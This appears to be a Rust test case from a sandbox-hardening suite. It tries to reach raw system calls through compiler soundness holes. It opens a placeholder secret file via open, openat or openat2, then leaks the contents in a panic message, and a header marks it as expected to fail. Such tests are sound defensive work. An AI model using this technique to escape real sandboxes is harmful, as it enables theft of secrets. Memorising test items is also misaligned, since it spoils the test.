//! tries: find the C library's `syscall` by old holes of the compiler, and read a secret
//! must: no full marks
//! needs: x86_64
//! proof: secret

fn attack() {
    found::moved([1; 100]);
    let mut text = [0_u8; 200];
    // open, and where that is refused, the calls that do the same.
    let path = found::text("@SECRET@");
    let ways = [(2, [path, 0, 0, 0, 0, 0]), (257, [usize::MAX - 99, path, 0, 0, 0, 0]), (437, [usize::MAX - 99, path, found::text(&"\0".repeat(24)), 24, 0, 0])];
    for (number, arguments) in ways {
        let Some(file) = found::call(number, arguments) else { return };
        if file >= 0 {
            found::call(0, [file as usize, text.as_mut_ptr() as usize, text.len(), 0, 0, 0]);
            panic!("{}", String::from_utf8_lossy(&text));
        }
    }
}
